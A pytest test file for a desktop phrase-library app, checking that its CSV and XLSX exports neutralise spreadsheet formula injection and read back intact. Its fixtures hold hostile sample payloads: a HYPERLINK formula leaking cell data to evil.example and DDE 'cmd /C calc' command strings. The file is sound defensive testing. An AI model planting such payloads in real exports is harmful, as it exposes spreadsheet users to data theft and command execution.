"""Formula injection: no cell of any export starts a formula in Excel, and our own exports read back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop.core.formula_guard import FORMULA_STARTS, neutralise, neutralised_rows, restore
from desktop.core.library_io import export_library, plan_import, read_library
from desktop.core.phrases import Phrase

HOSTILE = [
    Phrase(id="-p1", text='=HYPERLINK("http://evil.example/?"&A1,"点我")', code="+1", group="@组",
           keywords=("-减价", "=1+1")),
    Phrase(id="p2", text="+86 138 0000 0000", code="=cmd|' /C calc'!A0", group="-"),
    Phrase(id="p3", text="@SUM(1+1)*cmd|' /C calc'!A0", code="'=already quoted"),
    Phrase(id="p4", text="-2+3", code="\tfh"),
]


def cells_of_csv(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def cells_of_xlsx(path: Path) -> list[str]:
    workbook = load_workbook(path)
    try:
        return [str(c) for row in workbook.active.iter_rows(min_row=2, values_only=True) for c in row if c]
    finally:
        workbook.close()


@pytest.mark.parametrize(("name", "layout"), [("q.csv", "qianniu"), ("f.csv", "full"), ("f.xlsx", "full"),
                                             ("q.xlsx", "qianniu")])
def test_no_exported_cell_starts_a_formula(tmp_path: Path, name: str, layout: str) -> None:
    out = tmp_path / name
    export_library(out, HOSTILE, layout=layout)  # type: ignore[arg-type]
    cells = cells_of_xlsx(out) if name.endswith(".xlsx") else cells_of_csv(out)
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)


@pytest.mark.parametrize("name", ["f.csv", "f.xlsx"])
def test_a_guarded_export_reads_back_as_the_same_phrases(tmp_path: Path, name: str) -> None:
    out = tmp_path / name
    export_library(out, HOSTILE, layout="full")
    back = plan_import(read_library(out), [], "personal").added
    assert [(p.text, p.code, p.group, p.keywords) for p in back] == \
        [(p.text, p.code.strip(), p.group, p.keywords) for p in HOSTILE]


def test_the_conversion_export_rows_are_guarded_too() -> None:
    assert neutralised_rows([("日期", "=1+1"), ("2026-01-01", "-3")]) == [["日期", "'=1+1"], ["2026-01-01", "'-3"]]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a中"), max_size=8))
def test_restore_undoes_neutralise_for_any_cell(cell: str) -> None:
    guarded = neutralise(cell)
    assert not guarded.startswith(FORMULA_STARTS)
    assert restore(guarded) == cell
